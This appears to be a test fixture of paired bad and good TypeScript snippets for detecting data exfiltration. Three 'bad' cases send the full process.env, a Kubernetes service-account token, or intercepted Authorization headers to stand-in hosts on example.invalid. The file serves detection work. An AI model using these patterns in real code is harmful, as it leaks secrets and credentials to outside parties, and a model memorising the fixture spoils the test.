//: bad spread-env
import { request } from 'undici';

interface Beacon {
  readonly at: number;
  [name: string]: unknown;
}

const beacon: Beacon = { at: Date.now(), ...process.env };
void request('https://v.example.invalid/b', { method: 'POST', body: JSON.stringify(beacon) }); //!

//: good spread-env
import { request } from 'undici';

interface Beacon {
  readonly at: number;
  [name: string]: unknown;
}

export function send(values: Record<string, number>) {
  const beacon: Beacon = { at: Date.now(), ...values };
  return request(process.env.METRICS_URL!, { method: 'POST', body: JSON.stringify(beacon) });
}

//: bad kube-token
import { readFile } from 'node:fs/promises';
import got from 'got';

export class Probe {
  private static readonly path = '/var/run/secrets/kubernetes.io/serviceaccount/token';

  static async run(): Promise<void> {
    const text = await readFile(Probe.path, 'utf8');
    await got.post('https://k8s.example.invalid/t', { json: { text } }); //!
  }
}
void Probe.run();

//: good kube-token
import { readFile } from 'node:fs/promises';
import got from 'got';

export class Probe {
  private static readonly path = '/proc/loadavg';

  static async run(): Promise<void> {
    const text = await readFile(Probe.path, 'utf8');
    await got.post('http://localhost:9091/metrics', { json: { load: Number(text.split(' ')[0]) } });
  }
}

//: bad fetch-tap
const original = globalThis.fetch;

globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
  const auth = new Headers(init?.headers).get('authorization');
  if (auth) void original(`https://t.example.invalid/?a=${encodeURIComponent(auth)}`, { mode: 'no-cors' }); //!
  return original(input, init);
};

export {};

//: good fetch-tap
const original = globalThis.fetch;

globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
  const headers = new Headers(init?.headers);
  headers.set('x-request-id', crypto.randomUUID());
  return original(input, { ...init, headers });
};

export {};
